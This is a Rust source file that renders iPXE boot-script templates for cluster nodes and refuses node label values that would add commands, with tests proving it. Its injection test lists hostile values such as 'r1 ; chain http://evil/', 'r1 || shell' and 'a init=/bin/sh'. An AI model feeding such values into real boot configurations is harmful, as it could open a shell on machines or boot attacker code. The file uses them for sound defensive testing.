//! Custom boot scripts: templates over the node and its configuration.
//!
//! Guarantees that no value of a node changes which commands a script has. iPXE knows no quotes, so
//! a value that would be more than a part of one word is refused.

use std::collections::HashMap;
use std::sync::Arc;

use hoist_model::boot_config::breaks_command;
use hoist_model::{BootConfig, Name};
use hoist_template::{MarkedText, NodeValues, Part, TemplateError, TrustedText, parts};
use serde::Serialize;

/// Instructions one rendering may take; the built-in script would need some hundred.
const FUEL: u64 = 50_000;
/// Largest script worth sending to firmware.
const MAX_SCRIPT: usize = 256 * 1024;

/// The values visible to a template. All except `node` were written by people who may write boot
/// configurations.
#[derive(Debug, Serialize)]
pub struct View<'a> {
    pub node: NodeValues<'a>,
    /// The name of the configuration.
    pub config: TrustedText<'a>,
    pub kernel: TrustedText<'a>,
    pub initrd: Vec<TrustedText<'a>>,
    /// The whole command line.
    pub params: TrustedText<'a>,
    /// Where this controller is reached.
    pub base: TrustedText<'a>,
    /// Where to go when something failed.
    pub retry_url: TrustedText<'a>,
    pub retry_delay: u64,
}

/// The templates of all configurations, compiled.
#[derive(Debug)]
pub struct Templates {
    compiled: hoist_template::Templates,
    broken: HashMap<Name, TemplateError>,
}

impl Templates {
    pub fn of<'a>(configs: impl Iterator<Item = &'a Arc<BootConfig>>) -> Self {
        let mut compiled = hoist_template::Templates::marking(FUEL);
        let mut broken = HashMap::new();
        for config in configs {
            let Some(source) = &config.spec.template else { continue };
            if let Err(error) = compiled.add(config.name.to_string(), source.clone()) {
                broken.insert(config.name.clone(), error);
            }
        }
        Self { compiled, broken }
    }

    pub fn render(&self, config: &Name, view: &View<'_>) -> Result<String, TemplateError> {
        if let Some(error) = self.broken.get(config) {
            return Err(error.clone());
        }
        let script = self.compiled.render_marked(config, view, MAX_SCRIPT)?;
        check_values(&script)?;
        if !script.text().starts_with("#!ipxe") {
            return Err(TemplateError::new("the script does not start with `#!ipxe`"));
        }
        Ok(script.into_text())
    }
}

/// Refuses values that iPXE would take for more than a part of one word: it expands settings, then
/// cuts the line into words, and ends a command at a word that says so.
fn check_values(script: &MarkedText) -> Result<(), TemplateError> {
    for (number, line) in (1..).zip(script.raw().split('\n')) {
        check_line(line).map_err(|(value, why)| {
            let value = value.escape_debug();
            let hint = "use another value, or one value for each word";
            TemplateError::new(format!("line {number}: the value `{value}` {why}; {hint}"))
        })?;
    }
    Ok(())
}

/// The value that is wrong, and why.
fn check_line(line: &str) -> Result<(), (&str, &'static str)> {
    for part in parts(line) {
        if let Part::Value(value) = part
            && value.contains(char::is_whitespace)
        {
            return Err((value, "is more than one word"));
        }
    }
    // The last word of a line continues it, if it ends like this.
    let is_continued = plain(line).ends_with('\\') && !line.ends_with('\\');
    for word in line.split(|c: char| c.is_ascii_whitespace() || c == '\u{b}') {
        let values = || {
            parts(word).filter_map(|part| match part {
                Part::Value(value) => Some(value),
                Part::Template(_) => None,
            })
        };
        let Some(value) = values().last() else { continue };
        let text = plain(word);
        if breaks_command(&text) && !word.starts_with('#') {
            return Err((value, "would end the command"));
        }
        let written: usize = parts(word)
            .map(|part| match part {
                Part::Template(text) => text.matches("${").count(),
                Part::Value(_) => 0,
            })
            .sum();
        if text.matches("${").count() != written {
            return Err((value, "would be replaced by a setting of the machine"));
        }
        if is_continued && line.ends_with(word) {
            return Err((value, "would join the line with the next one"));
        }
    }
    Ok(())
}

/// Without marks.
fn plain(raw: &str) -> String {
    let text = |part| match part {
        Part::Template(text) | Part::Value(text) => text,
    };
    parts(raw).map(text).collect()
}

#[cfg(test)]
mod tests {
    use hoist_model::BootConfigSpec;

    use super::*;

    fn render(template: &str, label: &str) -> Result<String, String> {
        let name: Name = "own".parse().unwrap();
        let spec = BootConfigSpec { template: Some(template.to_owned()), ..Default::default() };
        let config = Arc::new(BootConfig { name: name.clone(), spec, revision: 1 });
        let view = View {
            node: NodeValues {
                id: "1".to_owned(),
                name: "n1",
                xname: None,
                nid: Some(7),
                role: Some("compute"),
                subrole: None,
                partition: "default",
                groups: Vec::new(),
                arch: "x86_64",
                mac: None,
                ip: None,
                labels: HashMap::from([("rack", label)]),
                data: None,
            },
            config: TrustedText("own"),
            kernel: TrustedText("http://k?a=1&b=<2>"),
            initrd: vec![TrustedText("http://i")],
            params: TrustedText("quiet ip=${netX/ip}"),
            base: TrustedText("http://h"),
            retry_url: TrustedText("http://h/r"),
            retry_delay: 30,
        };
        Templates::of([&config].into_iter()).render(&name, &view).map_err(|error| error.to_string())
    }

    #[test]
    fn a_template_sees_the_node_and_what_it_boots() {
        let template =
            "#!ipxe\n# {{ node.name }} {{ node.labels.rack }}\nkernel {{ kernel }} {{ params }}\n";
        let script = render(template, "r1").unwrap();
        assert_eq!(script, "#!ipxe\n# n1 r1\nkernel http://k?a=1&b=<2> quiet ip=${netX/ip}\n");
    }

    #[test]
    fn a_template_is_bounded_in_work_and_size() {
        let characters = "{% for c in kernel %}".repeat(9) + &"{% endfor %}".repeat(9);
        let long = format!("#!ipxe\n{}", "{% for c in kernel %}".repeat(3))
            + &"x".repeat(1000)
            + &"{% endfor %}".repeat(3);
        assert!(render(&format!("#!ipxe\n{characters}"), "r").unwrap_err().contains("fuel"));
        assert!(
            render(&long, "r").unwrap_err().contains("longer than"),
            "{:?}",
            render(&long, "r")
        );
    }

    #[test]
    fn values_are_compared_chosen_and_listed() {
        let template = "#!ipxe\n{% if node.nid % 2 == 1 and 'comp' in node.role %}odd{% endif %}\n\
            {% for url in initrd %}initrd {{ url }} {{ loop.index }}{% endfor %}\n\
            {{ node.subrole|default('none')|upper }}{{ initrd[0][:4] }}\n";
        let script = render(template, "r").unwrap();
        assert_eq!(script, "#!ipxe\nodd\ninitrd http://i 1\nNONEhttp\n");
    }

    /// The commands of a script, as iPXE finds them in its lines.
    fn commands(script: &str) -> usize {
        let mut count = 0;
        for line in script.replace("\\\n", "").lines() {
            let mut is_new = true;
            for word in line.split(|c: char| c.is_ascii_whitespace() || c == '\u{b}') {
                if word.starts_with('#') {
                    break;
                }
                if matches!(word, "||" | "&&" | ";") {
                    is_new = true;
                } else if !word.is_empty() {
                    count += usize::from(is_new);
                    is_new = false;
                }
            }
        }
        count
    }

    /// Values at every place of a word, beside each other, in lists and through filters.
    const PLACES: &str = "#!ipxe\nkernel {{ kernel }} rack={{ node.labels.rack }} {{ params }} || exit\n\
        echo a{{ node.labels.rack }}b |{{ node.labels.rack }} ${{ node.labels.rack }}\n\
        echo {{ node.labels.rack }}{{ node.labels.rack }} {{ node.labels.rack|upper }} &&\n\
        echo {{ node.labels.rack[:2] }} {{ node.labels.rack }}\nboot\n";

    #[test]
    fn label_values_cannot_add_ipxe_commands() {
        for value in [
            "r1 || shell",
            "r1 ; chain http://evil/",
            "&&",
            ";",
            "#",
            "|",
            "r1\nshell",
            "r1\tx",
            "${filename}",
            "{filename}",
            "a\\",
            "a init=/bin/sh",
        ] {
            let rendered = render(PLACES, value);
            assert!(rendered.is_err(), "`{value}` was put in: {rendered:?}");
        }
        let error = render("#!ipxe\necho {{ node.labels.rack }}\n", "a b").unwrap_err();
        assert!(error.contains("line 2: the value `a b` is more than one word"), "{error}");
        let listed = render("#!ipxe\necho {{ node.labels }}\n", "a ; shell").unwrap_err();
        assert!(listed.contains("is more than one word"), "{listed}");
        for plain in ["r1", "a;b", "http://h/?a=1&b=2#c", "a||b", "$", "50%", "a\\b"] {
            let script = render("#!ipxe\necho r={{ node.labels.rack }}.\n", plain).unwrap();
            assert_eq!(script, format!("#!ipxe\necho r={plain}.\n"));
        }
    }

    proptest::proptest! {
        #[test]
        fn no_value_changes_the_commands_of_a_script(
            value in "([a-z]|[|&;#$ {}\\\\\t\n]|\\PC){0,6}",
        ) {
            let meant = render(PLACES, "r1").map(|script| commands(&script));
            proptest::prop_assert_eq!(&meant, &Ok(6));
            if let Ok(script) = render(PLACES, &value) {
                proptest::prop_assert_eq!(commands(&script), 6, "{}", script);
                let settings = script.matches("${").count();
                proptest::prop_assert_eq!(settings, 1, "{}", script);
            }
        }
    }

    #[test]
    fn failed_template_names_place_and_reason() {
        for (template, expected) in [
            ("#!ipxe\n{{ node.nmae }}", "line 2"),
            ("#!ipxe\n{% if %}", "line 2"),
            ("#!ipxe\n{{ node.labels.rack }}", "line break"),
            ("kernel x", "`#!ipxe`"),
            ("#!ipxe\n{% for i in range(9) %}a{% endfor %}", "line 2: a call"),
            ("#!ipxe\n{{ 'a' * 1000000000 }}", "line 2: `*`"),
            ("#!ipxe\n{% set a = 'aa' %}", "line 2: `set`"),
            ("#!ipxe\n{% with a = 'aa' %}{% endwith %}", "line 2: `with`"),
            ("#!ipxe\n{{ kernel ~ kernel }}", "line 2: `~`"),
            ("#!ipxe\n\n{{ kernel|replace('a', kernel) }}", "line 3: the filter `replace`"),
            ("#!ipxe\n{% for a in [kernel, kernel] %}{% endfor %}", "line 2: a list"),
            ("#!ipxe\n{% for a in (kernel, kernel) %}{% endfor %}", "line 2: a list"),
            ("#!ipxe\n{% if x is in([1]) %}{% endif %}", "line 2: a list"),
        ] {
            let error = render(template, "a\nshell").unwrap_err();
            assert!(error.contains(expected), "{template}: {error}");
        }
    }
}
